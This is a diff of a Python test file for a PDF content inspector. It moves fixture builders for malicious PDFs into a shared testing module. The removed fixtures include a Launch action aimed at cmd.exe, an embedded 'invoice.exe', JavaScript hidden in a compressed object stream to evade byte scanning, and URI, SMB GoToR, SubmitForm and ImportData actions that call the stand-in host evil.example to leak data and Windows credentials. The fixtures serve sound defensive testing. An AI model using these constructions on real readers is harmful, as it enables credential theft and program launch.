@@ -7,146 +7,31 @@ merely look like PDFs, so a check that only works on toy input fails here.
 from __future__ import annotations
 
 import io
-import zlib
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from pypdf import PdfReader
-from pypdf.actions import JavaScript, PageTrigger
 from pypdf.generic import (
-    ArrayObject,
     DictionaryObject,
-    FloatObject,
-    NameObject,
-    TextStringObject,
 )
 
 from vigie.records.ingest_errors import InvalidDocument
 from vigie.records.inspection import ContentReport, inspect
 from vigie.records.testing import (
+    ACTION_ATTACKS,
     VALID_PDF,
     pdf_with_document_javascript,
+    pdf_with_embedded_file,
+    pdf_with_javascript_in_object_stream,
+    pdf_with_launch_action,
+    pdf_with_link_action,
     pdf_with_open_action_javascript,
+    pdf_with_page_open_javascript,
 )
-from vigie.records.testing import pdf_bytes as _bytes
-from vigie.records.testing import pdf_writer as _writer
 
 PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 32
 JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 32
-
-
-def pdf_with_page_open_javascript() -> bytes:
-    writer = _writer()
-    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert('page');"))
-    return _bytes(writer)
-
-
-def pdf_with_launch_action() -> bytes:
-    # A link annotation that launches a program when clicked: no JavaScript anywhere.
-    writer = _writer()
-    launch = DictionaryObject(
-        {
-            NameObject("/S"): NameObject("/Launch"),
-            NameObject("/F"): TextStringObject("C:\\Windows\\System32\\cmd.exe"),
-        }
-    )
-    annotation = DictionaryObject(
-        {
-            NameObject("/Type"): NameObject("/Annot"),
-            NameObject("/Subtype"): NameObject("/Link"),
-            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 700, 300, 720)]),
-            NameObject("/A"): launch,
-        }
-    )
-    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
-    return _bytes(writer)
-
-
-def pdf_with_embedded_file() -> bytes:
-    writer = _writer()
-    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
-    return _bytes(writer)
-
-
-def pdf_with_javascript_in_object_stream(
-    action: bytes = b"<</Type/Action/S/JavaScript/JS(app.launchURL\\('https://evil.example/'\\))>>",
-    *,
-    action_index: int = 3,
-) -> bytes:
-    """The catalog and its OpenAction JavaScript inside a Flate-compressed object stream.
-
-    pypdf 7 writes no object streams (its `compress_identical_objects` only deduplicates),
-    so this PDF 1.5 file is assembled by hand: object stream 5 holds objects 1-4, and a
-    cross-reference stream (object 6) says where. No active name appears in the raw bytes.
-    """
-    objects = {
-        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
-        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
-        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
-        4: action,
-    }
-    body = b""
-    offsets = []
-    for number, text in objects.items():
-        offsets.append(f"{number} {len(body)}".encode())
-        body += text + b"\n"
-    header = b" ".join(offsets) + b"\n"
-    packed = zlib.compress(header + body)
-    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
-    stm_offset = len(out)
-    out += (
-        f"5 0 obj\n<</Type/ObjStm/N {len(objects)}/First {len(header)}"
-        f"/Filter/FlateDecode/Length {len(packed)}>>\nstream\n"
-    ).encode()
-    out += packed + b"\nendstream\nendobj\n"
-    xref_offset = len(out)
-    # Entries: type (1 byte), field 2 (2 bytes), field 3 (2 bytes) — /W [1 2 2].
-    rows = [bytes([0, 0, 0, 0xFF, 0xFF])]  # object 0: head of the free list
-    rows += [bytes([2, 0, 5, 0, index]) for index in range(len(objects) - 1)]  # 1-3 in stream 5
-    rows.append(bytes([2, 0, 5, 0, action_index]))  # 4: the action, where the xref says
-    rows.append(bytes([1]) + stm_offset.to_bytes(2, "big") + b"\x00\x00")  # 5: at offset
-    rows.append(bytes([1]) + xref_offset.to_bytes(2, "big") + b"\x00\x00")  # 6: this stream
-    table = b"".join(rows)
-    out += (
-        f"6 0 obj\n<</Type/XRef/Size 7/W[1 2 2]/Root 1 0 R/Length {len(table)}>>\nstream\n"
-    ).encode()
-    out += table + b"\nendstream\nendobj\n"
-    out += f"startxref\n{xref_offset}\n%%EOF\n".encode()
-    return bytes(out)
-
-
-def pdf_with_link_action(action: DictionaryObject) -> bytes:
-    """A link annotation on the first page whose action is `action` (clicked, not opened)."""
-    writer = _writer()
-    annotation = DictionaryObject(
-        {
-            NameObject("/Type"): NameObject("/Annot"),
-            NameObject("/Subtype"): NameObject("/Link"),
-            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 700, 300, 720)]),
-            NameObject("/A"): action,
-        }
-    )
-    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
-    return _bytes(writer)
-
-
-def _action(kind: str, **entries: str) -> DictionaryObject:
-    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
-    for key, value in entries.items():
-        action[NameObject(f"/{key}")] = TextStringObject(value)
-    return action
-
-
-# Actions that leave the document: to a web address, to another file (an SMB share leaks the
-# reader's Windows credentials), or that send or pull form data.
-ACTION_ATTACKS = {
-    "uri": (_action("/URI", URI="https://evil.example/?leak"), "uri_action"),
-    "gotor": (_action("/GoToR", F="\\\\evil.example\\share\\next.pdf"), "remote_goto"),
-    "submit_form": (_action("/SubmitForm", F="https://evil.example/collect"), "submit_form"),
-    "import_data": (_action("/ImportData", F="\\\\evil.example\\share\\data.fdf"), "import_data"),
-    "launch": (_action("/Launch", F="C:\\Windows\\System32\\cmd.exe"), "launch_action"),
-}
 
 
 # --- what is accepted ------------------------------------------------------------------------
